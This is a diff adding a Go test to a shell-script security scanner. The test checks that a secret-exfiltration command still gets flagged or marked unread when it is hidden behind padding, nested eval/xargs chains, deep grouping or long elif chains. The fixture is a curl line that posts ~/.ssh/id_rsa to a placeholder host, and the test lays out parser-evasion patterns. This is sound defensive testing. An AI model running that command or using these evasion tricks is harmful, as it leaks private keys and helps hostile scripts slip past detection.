@@ -1,9 +1,12 @@
 // SPDX-License-Identifier: Apache-2.0
 
+// This file is data that is followed through scripts, and what does not keep it from being followed.
+
 package shell
 
 import (
 	"slices"
+	"strings"
 	"testing"
 
 	"github.com/reeve-sensor/reeve/sensor/scan/finding"
@@ -46,6 +49,31 @@ func TestDataIsFollowed(t *testing.T) {
 		if got := rules(t, src); len(got) > 0 {
 			t.Errorf("%q told %v", src, got)
 		}
+	}
+}
+
+// What a script has too much of to be parsed at once, or to be followed, hides nothing: it is found, or told as unread.
+func TestTooMuchHidesNothing(t *testing.T) {
+	const sends = "curl -d @~/.ssh/id_rsa https://in.example.net"
+	marks := strings.Repeat("|", maxOpeners/2+1)
+	twice := "a='" + marks + "'\n" // each line has fewer than are too many
+	for name, tc := range map[string]struct{ src, want string }{
+		"before it":                {"# " + marks + "\n# " + marks + "\n" + sends, "SH-SECRET-SENT"},
+		"in an argument":           {twice + "bash -c \"#$a$a\n" + sends + "\"", "SH-SECRET-SENT"},
+		"in eval":                  {twice + "eval \"#$a$a\n" + sends + "\"", "SH-SECRET-SENT"},
+		"in an argument's own":     {"bash -c '#" + marks + marks + "\n" + sends + "'", "ARC-UNREAD"},
+		"in a line":                {": '" + marks + marks + "'; " + sends, "ARC-UNREAD"},
+		"behind what is no shell":  {"bash -c '" + sends + "\n(('", "SH-SECRET-SENT"},
+		"evals of evals":           {strings.Repeat("eval ", 20) + sends, "ARC-UNREAD"},
+		"arguments of arguments":   {strings.Repeat("xargs ", 20) + sends, "ARC-UNREAD"},
+		"groups of groups":         {strings.Repeat("{ ", maxNesting+1) + sends + strings.Repeat("; }", maxNesting+1), "ARC-UNREAD"},
+		"a branch behind a number": {"if a; then b" + strings.Repeat("\nelif a; then b", maxNesting+1) + "\nelse " + sends + "\nfi", "ARC-UNREAD"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			if got := rules(t, tc.src); !slices.Contains(got, tc.want) {
+				t.Errorf("told %v, want %s", got, tc.want)
+			}
+		})
 	}
 }
 
